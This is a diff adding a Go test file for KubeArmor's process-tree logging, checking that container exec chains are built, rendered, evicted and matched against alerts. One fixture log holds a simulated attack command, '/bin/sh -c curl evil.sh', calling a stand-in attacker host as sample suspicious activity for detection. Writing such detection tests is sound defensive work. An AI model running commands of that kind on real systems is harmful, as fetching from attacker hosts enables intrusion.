@@ -0,0 +1,115 @@
+package log
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	pb "github.com/kubearmor/KubeArmor/protobuf"
+)
+
+// execLogs start containerd-shim → sh → curl in a container
+var execLogs = []*pb.Log{
+	{ContainerID: "c1", PodName: "web", HostPID: 100, HostPPID: 1, PID: 1, Operation: "Process",
+		ProcessName: "/usr/bin/containerd-shim", ParentProcessName: "/sbin/init"},
+	{ContainerID: "c1", PodName: "web", HostPID: 200, HostPPID: 100, PID: 7, Operation: "Process",
+		Source: "/usr/bin/containerd-shim", Resource: "/bin/sh -c curl evil.sh"},
+	{ContainerID: "c1", PodName: "web", HostPID: 300, HostPPID: 200, PID: 8, Operation: "Process",
+		ProcessName: "/usr/bin/curl", ParentProcessName: "/bin/sh"},
+	{ContainerID: "c2", PodName: "db", HostPID: 300, HostPPID: 250, PID: 3, Operation: "Process",
+		ProcessName: "/usr/bin/postgres", ParentProcessName: "/usr/bin/bash"},
+}
+
+func TestProcessTreeChain(t *testing.T) {
+	tree := NewProcessTree()
+	for _, l := range execLogs {
+		tree.Add(toFieldMap(l))
+	}
+
+	for _, tc := range []struct {
+		alert *pb.Alert
+		want  string
+	}{
+		{&pb.Alert{ContainerID: "c1", HostPID: 300}, "init → containerd-shim → sh → curl"},
+		{&pb.Alert{ContainerID: "c1", HostPID: 200}, "init → containerd-shim → sh"},
+		{&pb.Alert{ContainerID: "c2", HostPID: 300}, "bash → postgres"},
+		{&pb.Alert{ContainerID: "c3", HostPID: 9, ProcessName: "/bin/ls", ParentProcessName: "/bin/zsh"}, "zsh → ls"},
+	} {
+		if got := tree.Chain(toFieldMap(tc.alert)); got != tc.want {
+			t.Errorf("%s/%d: got %q, want %q", tc.alert.ContainerID, tc.alert.HostPID, got, tc.want)
+		}
+	}
+
+	var sb strings.Builder
+	tree.Render(&sb)
+	want := "" +
+		"/db/ (c2)\n" +
+		"└─ bash\n" +
+		"   └─ postgres (3)\n" +
+		"/web/ (c1)\n" +
+		"└─ init\n" +
+		"   └─ containerd-shim (1)\n" +
+		"      └─ sh (7)\n" +
+		"         └─ curl (8)\n"
+	if sb.String() != want {
+		t.Errorf("unexpected tree\n%s\nwant\n%s", sb.String(), want)
+	}
+}
+
+func TestProcessTreeEvictsIdleContainers(t *testing.T) {
+	tree := NewProcessTree()
+	for _, l := range execLogs {
+		tree.Add(toFieldMap(l))
+	}
+	// c1 went quiet, e.g. its pod was deleted
+	idle := time.Now().Add(-2 * treeContainerTTL)
+	tree.containers["c1"].seen = idle
+	tree.swept = idle
+
+	tree.Add(toFieldMap(execLogs[3]))
+	if _, ok := tree.containers["c1"]; ok {
+		t.Error("expected the idle container to be evicted")
+	}
+	if _, ok := tree.containers["c2"]; !ok {
+		t.Error("expected the active container to be kept")
+	}
+}
+
+func TestProcessTreeAlerts(t *testing.T) {
+	events := make(chan EventInfo, 10)
+	o := Options{LogPath: "none", Sinks: []string{}, LogFilter: "policy", ProcessTree: true, EventChan: events}
+	if err := o.prepare(); err != nil {
+		t.Fatal(err)
+	}
+	defer o.release()
+
+	// logs only feed the tree when just alerts are watched
+	for _, l := range execLogs {
+		arr, _ := json.Marshal(l)
+		if handleTelemetry(arr, "Log", o) {
+			t.Error("expected the logs not to be written out")
+		}
+	}
+	arr, _ := json.Marshal(&pb.Alert{ContainerID: "c1", HostPID: 300, PolicyName: "block-curl"})
+	o.Filter = "ProcessTree =~ 'sh → curl'"
+	flt, err := NewOptionsFilter(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	o.filter = flt
+	if !handleTelemetry(arr, "Alert", o) {
+		t.Fatal("expected the alert to match its exec chain")
+	}
+
+	if len(events) != 1 {
+		t.Fatalf("expected 1 event, got %d", len(events))
+	}
+	var res map[string]interface{}
+	if err := json.Unmarshal((<-events).Data, &res); err != nil {
+		t.Fatal(err)
+	}
+	if res["ProcessTree"] != "init → containerd-shim → sh → curl" {
+		t.Errorf("unexpected ProcessTree %v", res["ProcessTree"])
+	}
+}